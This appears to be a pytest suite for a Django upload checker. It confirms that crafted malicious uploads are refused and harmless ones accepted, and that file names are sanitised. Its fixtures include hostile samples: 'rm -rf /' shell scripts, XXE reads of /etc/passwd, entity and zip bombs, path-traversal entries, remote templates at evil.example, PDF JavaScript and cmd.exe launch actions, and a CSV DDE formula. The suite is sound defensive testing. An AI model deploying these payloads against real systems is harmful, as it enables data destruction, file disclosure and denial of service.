"""Files as they are uploaded: what is taken, what it is called afterwards, and what is refused with words."""

import io
import struct
import zipfile

import pytest
from django.core.files import File

from assessments.evidence_files import archives, pictures
from assessments.evidence_files.check import check_file
from assessments.evidence_files.kinds import JPEG, PDF, PNG, TEXT, RefusedFileError
from assessments.evidence_files.names import clean_name
from tests.assessments.sound_files import (
    MAIN,
    OPEN_XML,
    SOUND,
    content_types,
    gif,
    jpeg,
    link,
    links,
    office,
    office_parts,
    open_document,
    pdf,
    png,
    png_chunk,
    webp,
    zipped,
)

LIMIT = 25 * 1024 * 1024
SCRIPT = b"<script>fetch('/accounts/logout/', {method: 'POST'})</script>"
PAGE = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
DRAWING = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'


def check(data: bytes, name: str, limit: int = LIMIT):
    return check_file(File(io.BytesIO(data), name), name, limit=limit)


@pytest.mark.parametrize("name", SOUND)
def test_sound_files_are_taken_for_what_they_are(name):
    data, content_type = SOUND[name]
    found = check(data, name)
    assert (found.kind.content_type, found.name, found.size) == (content_type, name, len(data))


# --- what is refused, by a name of its own each ---------------------------------------------------------------------


def lying(parts: dict[str, bytes | str], name: str, **fields: int) -> bytes:
    """An archive of which a central entry says something else than is there: size, packed, flags or place."""
    data = bytearray(zipped(parts))
    entry = data.index(b"PK\x01\x02")
    while data[entry + 46 : entry + 46 + len(name)] != name.encode():
        entry = data.index(b"PK\x01\x02", entry + 4)
    places = {"flags": (8, "<H"), "method": (10, "<H"), "packed": (20, "<I"), "size": (24, "<I"), "at": (42, "<I")}
    for field, value in fields.items():
        offset, shape = places[field]
        struct.pack_into(shape, data, entry + offset, value)
    return bytes(data)


def old_office() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"WordDocument"


def bomb() -> bytes:
    return office("docx", {"word/media/zeros.bin": bytes(20_000_000)})


def overlapping() -> bytes:
    """One packed part to which a second entry points too."""
    parts = office_parts("docx", {"word/a.bin": bytes(1000), "word/b.bin": bytes(1000)})
    with zipfile.ZipFile(io.BytesIO(zipped(parts))) as archive:
        place = archive.getinfo("word/a.bin").header_offset
    return lying(parts, "word/b.bin", at=place)


def many_parts() -> bytes:
    return zipped(office_parts("docx", {f"word/{n}.xml": b"" for n in range(archives.PARTS_LIMIT)}))


def renamed(old: str, new: str) -> bytes:
    assert len(old) == len(new)
    return office("docx", {old: b"x"}).replace(old.encode(), new.encode())


def entities() -> str:
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
    return f'<!DOCTYPE t [<!ENTITY l0 "lol">{lines}]>' + content_types(MAIN["docx"][0]) + "<!--&l8;-->"


MACRO_DOCX = {"word/vbaProject.bin": old_office()}
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"

REFUSED: dict[str, tuple[str, bytes]] = {
    # pages, drawings, scripts, programs
    "svg with a script": ("drawing.svg", DRAWING),
    "svg called png": ("drawing.png", DRAWING),
    "svg called txt": ("drawing.txt", DRAWING),
    "svg after spaces called csv": ("a.csv", b"\n \t" + DRAWING),
    "page": ("page.html", PAGE),
    "page called pdf": ("page.pdf", PAGE),
    "page called png": ("page.png", PAGE),
    "page called txt": ("page.txt", PAGE),
    "page in capitals called md": ("page.md", b"<HTML><SCRIPT>1</SCRIPT>"),
    "page behind a mark of order": ("page.txt", b"\xef\xbb\xbf" + PAGE),
    "page in utf-16": ("page.txt", PAGE.decode().encode("utf-16")),
    "xml": ("feed.xml", b"<?xml version='1.0'?><a/>"),
    "xml called txt": ("feed.txt", b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a/>"),
    "message with a page": ("mail.txt", b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + PAGE),
    "rtf": ("letter.rtf", b"{\\rtf1\\ansi hello}"),
    "rtf called txt": ("letter.txt", b"{\\rtf1\\object\\objdata}"),
    "postscript called txt": ("a.txt", b"%!PS-Adobe-3.0\n(run) system"),
    "batch file called txt": ("a.txt", b"@echo off\r\ndel *.*"),
    "javascript": ("code.js", b"alert(1)"),
    "python": ("code.py", b"import os"),
    "program of Windows": ("setup.exe", b"MZ\x90\0" + bytes(60)),
    "program of Windows called pdf": ("setup.pdf", b"MZ\x90\0" + pdf()),
    "program of Linux": ("run", b"\x7fELF\x02\x01\x01" + bytes(64)),
    "shell script": ("run.sh", b"#!/bin/sh\nrm -rf /\n"),
    "shell script called txt": ("run.txt", b"#!/bin/sh\nrm -rf /\n"),
    "class of Java": ("a.class", b"\xca\xfe\xba\xbe\0\0\0\x34"),
    "shortcut": ("a.lnk", b"L\0\0\0\x01\x14\x02\0"),
    # text that is none
    "text with a NUL": ("a.txt", b"one\0two"),
    "text with an escape": ("a.txt", b"one \x1b]0;title\x07"),
    "text in latin-1": ("a.csv", "Müller".encode("latin-1")),
    "text cut in a letter": ("a.txt", "Mü".encode()[:-1]),
    # archives
    "zip": ("files.zip", zipped({"a.txt": b"a"})),
    "zip called docx": ("files.docx", zipped({"a.txt": b"a"})),
    "empty zip": ("files.docx", zipped({})),
    "gzip": ("a.gz", b"\x1f\x8b\x08\0"),
    "rar": ("a.rar", b"Rar!\x1a\x07\x01\0"),
    "7z": ("a.7z", b"7z\xbc\xaf\x27\x1c\0\x04"),
    # documents
    "docx with macros": ("letter.docx", office("docx", MACRO_DOCX)),
    "docm called docx": ("letter.docx", office("docx", {"[Content_Types].xml": content_types(MACRO_TYPE)})),
    "xlsm": ("sums.xlsm", office("xlsx", {"xl/vbaProject.bin": old_office()})),
    "xlsx with old macros": ("sums.xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": b"<xm/>"})),
    "xlsx with controls": ("sums.xlsx", office("xlsx", {"xl/activeX/activeX1.bin": b"x"})),
    "xlsx with links to other files": ("sums.xlsx", office("xlsx", {"xl/externalLinks/externalLink1.xml": b"<e/>"})),
    "xlsx with connections": ("sums.xlsx", office("xlsx", {"xl/connections.xml": b"<c/>"})),
    "docx with a template from afar": (
        "letter.docx",
        office("docx", {"word/_rels/settings.xml.rels": links(link("attachedTemplate", "http://evil.example/t.dotm"))}),
    ),
    "docx with a template of a share": (
        "letter.docx",
        office("docx", {"word/_rels/settings.xml.rels": links(link("attachedTemplate", r"file:///\\evil\t.dotm"))}),
    ),
    "docx with a picture from afar": (
        "letter.docx",
        office("docx", {"word/_rels/document.xml.rels": links(link("image", "http://evil.example/x.png"))}),
    ),
    "docx with an old object": ("letter.docx", office("docx", {"word/embeddings/oleObject1.bin": old_office()})),
    "docx with a program inside": ("letter.docx", office("docx", {"word/embeddings/setup.exe": b"MZ"})),
    "docx with a workbook with macros inside": (
        "letter.docx",
        office("docx", {"word/embeddings/a.xlsx": office("xlsx", {"xl/vbaProject.bin": b"x"})}),
    ),
    "docx in a docx in a docx": (
        "letter.docx",
        office("docx", {"word/embeddings/a.docx": office("docx", {"word/embeddings/b.docx": office("docx")})}),
    ),
    "docx of two kinds": (
        "letter.docx",
        office("docx", {"[Content_Types].xml": content_types(MAIN["docx"][0], MAIN["xlsx"][0])}),
    ),
    "docx with a bomb of names": ("letter.docx", office("docx", {"[Content_Types].xml": entities()})),
    "docx with an outside name": (
        "letter.docx",
        office(
            "docx",
            {
                "[Content_Types].xml": '<!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                + content_types(MAIN["docx"][0])
            },
        ),
    ),
    "docx with broken types": ("letter.docx", office("docx", {"[Content_Types].xml": "<Types"})),
    "docx with giant types": (
        "letter.docx",
        office("docx", {"[Content_Types].xml": content_types(MAIN["docx"][0]) + "<!-- -->" * 200_000}),
    ),
    "old Office document": ("letter.doc", old_office()),
    "protected Office document": ("letter.docx", old_office()),
    "odt with macros": ("letter.odt", open_document("odt", {"Basic/Standard/Module1.xml": b"<m/>"})),
    "odt with scripts": ("letter.odt", open_document("odt", {"Scripts/python/a.py": b"import os"})),
    "odt with a foreign object": ("letter.odt", open_document("odt", {"Object 1": old_office()})),
    "odt that is protected": (
        "letter.odt",
        open_document("odt", manifest='<m:manifest xmlns:m="urn:m"><m:encryption-data/></m:manifest>'),
    ),
    "odt of no known kind": ("letter.odt", zipped({"mimetype": "application/x-evil", "META-INF/manifest.xml": "<m/>"})),
    # archives built to harm
    "bomb by ratio": ("letter.docx", bomb()),
    "bomb of bombs": ("letter.docx", office("docx", {"word/embeddings/a.docx": bomb()})),
    "bomb of many parts": ("letter.docx", many_parts()),
    "bomb of parts upon each other": ("letter.docx", overlapping()),
    "bomb that claims gigabytes": (
        "letter.docx",
        lying(office_parts("docx"), "word/document.xml", size=4_000_000_000, packed=100_000_000),
    ),
    "protected archive": ("letter.docx", lying(office_parts("docx"), "word/document.xml", flags=1)),
    "odd packing": ("letter.docx", lying(office_parts("docx"), "word/document.xml", method=99)),
    "part that climbs": ("letter.docx", office("docx", {"../../../etc/cron.d/x": b"x"})),
    "part from the root": ("letter.docx", office("docx", {"/etc/passwd": b"x"})),
    "part of Windows' ways": ("letter.docx", renamed("word/a/b.xml", "word\\a\\b.xml")),
    "part on a disk": ("letter.docx", office("docx", {"C:/x.xml": b"x"})),
    "part with a NUL": ("letter.docx", renamed("word/a_b.xml", "word/a\0b.xml")),
    "part twice": ("letter.docx", office("docx", {"word/DOCUMENT.xml": b"<other/>"})),
    "archive with a comment": ("letter.docx", zipped(office_parts("docx"), comment=SCRIPT)),
    "archive with a page before it": ("letter.docx", PAGE + office("docx")),
    "archive behind a picture": ("board.png", png() + office("docx")),
    "archive cut off": ("letter.docx", office("docx")[:-30]),
    "archive of one letter": ("letter.docx", b"PK\x03\x04"),
    # pictures
    "giant png": ("a.png", png(60_000, 60_000)),
    "giant jpeg": ("a.jpg", jpeg(60_000, 60_000)),
    "giant gif": ("a.gif", gif(60_000, 60_000)),
    "gif with a giant frame": ("a.gif", gif(1, 1, frame=(60_000, 60_000))),
    "giant webp": ("a.webp", webp(16_000_000, 16_000_000)),
    "long thin png": ("a.png", png(2_000_000_000, 1)),
    "png without points": ("a.png", png(0, 0)),
    "png with a page behind it": ("a.png", png(after=PAGE)),
    "png cut off": ("a.png", png()[:-12]),
    "png of a head alone": ("a.png", png()[:8]),
    "png with a chunk beyond its end": ("a.png", png()[:-12] + struct.pack(">I4s", 2_000_000_000, b"IDAT")),
    "gif with a script behind it": ("a.gif", gif(after=b"=1;alert(1)//")),
    "gif that is a script": ("a.gif", b"GIF89a/*" + bytes(8) + b"*/=1;alert(1);"),
    "gif cut off": ("a.gif", gif()[:-1]),
    "gif of endless blocks": ("a.gif", gif()[:-2] + b"\x01x" * (pictures.MOST_PARTS + 1)),
    "jpeg cut off": ("a.jpg", jpeg()[:-2]),
    "jpeg without a size": ("a.jpg", b"\xff\xd8\xff\xd9"),
    "jpeg of endless segments": ("a.jpg", b"\xff\xd8" + b"\xff\xe0\0\x02" * (pictures.MOST_PARTS + 1)),
    "jpeg with a page for a picture": ("a.jpg", b"\xff\xd8\xff" + PAGE),
    "webp with a page behind it": ("a.webp", webp(after=PAGE)),
    "webp that is a film": ("a.webp", b"RIFF" + struct.pack("<I", 8) + b"AVI LIST"),
    # PDF
    "pdf cut off": ("a.pdf", pdf()[:-30]),
    "pdf of a head alone": ("a.pdf", b"%PDF-1.7\n"),
    "pdf with a page before it": ("a.pdf", pdf(before=PAGE)),
    "pdf with a script": ("a.pdf", pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>")),
    "pdf with a script in disguise": ("a.pdf", pdf(b"/OpenAction<</S/J#61vaScript/JS(app.alert(1))>>")),
    "pdf with a script all in numbers": (
        "a.pdf",
        pdf(b"/A<</S/" + b"".join(b"#%02X" % n for n in b"JavaScript") + b" >>"),
    ),
    "pdf that starts a program": ("a.pdf", pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>")),
    "pdf with a file inside": ("a.pdf", pdf(b"/Names<</EmbeddedFiles 3 0 R>>")),
    "pdf that is protected": ("a.pdf", pdf(trailer=b"/Encrypt 5 0 R")),
    "pdf with a script across two pieces": ("a.pdf", pdf(b" " * ((1 << 20) - 40) + b"/JavaScript ")),
    # sizes
    "empty": ("a.txt", b""),
    "empty pdf": ("a.pdf", b""),
}


@pytest.mark.parametrize("what", REFUSED)
def test_hostile_file_is_refused_with_words(what):
    name, data = REFUSED[what]
    with pytest.raises(RefusedFileError) as refusal:
        check(data, name)
    assert str(refusal.value).endswith(".")


def test_hostile_files_are_many():
    assert len(REFUSED) >= 100


def test_file_one_byte_too_large_is_refused_and_says_the_limit():
    with pytest.raises(RefusedFileError, match="1\\.0\xa0MB"):
        check(bytes(1024 * 1024 + 1), "a.txt", limit=1024 * 1024)


# --- harmless, and therefore taken ----------------------------------------------------------------------------------

TAKEN: dict[str, tuple[str, bytes, str]] = {
    "page in a png's words": ("a.png", png(extra=png_chunk(b"tEXt", b"Comment\0" + PAGE)), "image/png"),
    "page in a jpeg's comment": ("a.jpg", jpeg(comment=PAGE), "image/jpeg"),
    "page behind a jpeg": ("a.jpg", jpeg(after=PAGE), "image/jpeg"),
    "page behind a pdf": ("a.pdf", pdf(after=PAGE), "application/pdf"),
    "pdf of nothing but numbers for letters": ("a.pdf", pdf(b"#41" * 1_000_000), "application/pdf"),
    "formula in a csv": ("a.csv", b"=cmd|'/c calc'!A0,1\n", "text/plain; charset=utf-8"),
    "script further down in a text": ("a.txt", b"He said:\n" + SCRIPT, "text/plain; charset=utf-8"),
    "part that lies about its size": (
        "a.docx",
        lying(office_parts("docx"), "word/document.xml", size=1),
        f"{OPEN_XML}wordprocessingml.document",
    ),
    "chart with its workbook": (
        "a.pptx",
        office("pptx", {"ppt/embeddings/a.xlsx": office("xlsx")}),
        f"{OPEN_XML}presentationml.presentation",
    ),
    "links to click": (
        "a.docx",
        office("docx", {"word/_rels/document.xml.rels": links(link("hyperlink", "https://example.org/"))}),
        f"{OPEN_XML}wordprocessingml.document",
    ),
    "house's own template": (
        "a.docx",
        office("docx", {"word/_rels/settings.xml.rels": links(link("attachedTemplate", "file:///C:/T/Letter.dotx"))}),
        f"{OPEN_XML}wordprocessingml.document",
    ),
    "chart of LibreOffice": (
        "a.ods",
        open_document("ods", {"Object 1/content.xml": b"<c/>", "ObjectReplacements/Object 1": b"x"}),
        "application/vnd.oasis.opendocument.spreadsheet",
    ),
}


@pytest.mark.parametrize("what", TAKEN)
def test_harmless_file_is_taken_for_what_it_is(what):
    name, data, content_type = TAKEN[what]
    assert check(data, name).kind.content_type == content_type


# --- names ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("given", "kind", "kept"),
    [
        ("Plan 2026.pdf", PDF, "Plan 2026.pdf"),
        ("../../etc/passwd", PDF, "passwd.pdf"),
        ("..\\..\\boot.ini", PDF, "boot.ini.pdf"),
        ("C:\\Users\\me\\Plan.PDF", PDF, "Plan.pdf"),
        ("/etc/cron.d/run.png", PDF, "run.pdf"),
        ("CON.txt", TEXT, "_CON.txt"),
        ("lpt1.tar.png", PNG, "_lpt1.tar.png"),
        ("aux", PDF, "_aux.pdf"),
        ("invoice\u202efdp.exe", PDF, "invoicefdp.exe.pdf"),
        ("a\0b.png", PNG, "ab.png"),
        ("a\r\nContent-Type: text/html\r\n.pdf", PDF, "html.pdf"),
        ("plan.pdf.", PDF, "plan.pdf.pdf"),
        ("   .pdf", PDF, "file.pdf"),
        (".htaccess", TEXT, "htaccess.txt"),
        ("", PDF, "file.pdf"),
        ("..", PDF, "file.pdf"),
        ("a" * 300 + ".jpeg", JPEG, "a" * 115 + ".jpeg"),
        ("خطة العمل.pdf", PDF, "خطة العمل.pdf"),
        ("Ma\u0308rz.png", PNG, "März.png"),
        ("photo.jpeg", PNG, "photo.png"),
        ('q"uote;<b>.pdf', PDF, "q_uote;_b_.pdf"),
        ("100%00.pdf", PDF, "100_00.pdf"),
        ("😀.pdf", PDF, "😀.pdf"),
    ],
)
def test_name_keeps_what_is_read_and_loses_what_is_stumbled_over(given, kind, kept):
    assert clean_name(given, kind) == kept
